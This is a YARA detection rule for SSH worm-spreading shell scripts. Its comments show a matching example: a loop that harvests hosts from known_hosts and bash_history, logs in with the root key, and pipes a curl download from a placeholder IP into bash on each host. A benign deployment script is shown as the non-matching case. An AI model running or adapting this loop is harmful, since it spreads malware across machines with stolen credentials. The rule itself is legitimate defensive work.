rule ssh_spread_script : script
{
    meta:
        title = "move on to every machine that its user can log in to"
        explanation = "A script collects hosts from the history and the known hosts of its user, tries every key it finds, and runs a fetched script there. This is how the worms of this field spread inside a network."
        class = "malware"
        severity = "critical"
        confidence = "high"
        attack = "T1021.004, T1570"
        reference = "https://attack.mitre.org/software/S0599/"
    strings:
        $known = "known_hosts"
        $history = "bash_history"
        $key = "id_rsa"
        $strict1 = "StrictHostKeyChecking=no"
        $strict2 = "StrictHostKeyChecking no"
        $batch = "BatchMode=yes"
        $fetch1 = "curl "
        $fetch2 = "wget "
        $loop = "done"
    condition:
        filesize < 128KB and uint16(0) == 0x2123 and $known and $history and $key and 1 of ($strict*) and 1 of ($fetch*) and ($batch or $loop)
}

/* example: fires on such a loop
    FILE /spre.sh 0755
        #!/bin/sh
        HOSTS=$(cat /root/.ssh/known_hosts /root/.bash_history | grep -oE '[0-9.]+')
        for h in $HOSTS; do
        ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i /root/.ssh/id_rsa root@$h 'curl http://192.0.2.9/s.sh | bash'
        done
*/
/* example: quiet on a deployment
    FILE /deploy.sh 0755
        #!/bin/sh
        ssh-keyscan host.example.org >> /root/.ssh/known_hosts
        for h in a b; do ssh -oStrictHostKeyChecking=no -i /root/.ssh/id_rsa deploy@$h 'curl -fsS localhost/health'; done
*/
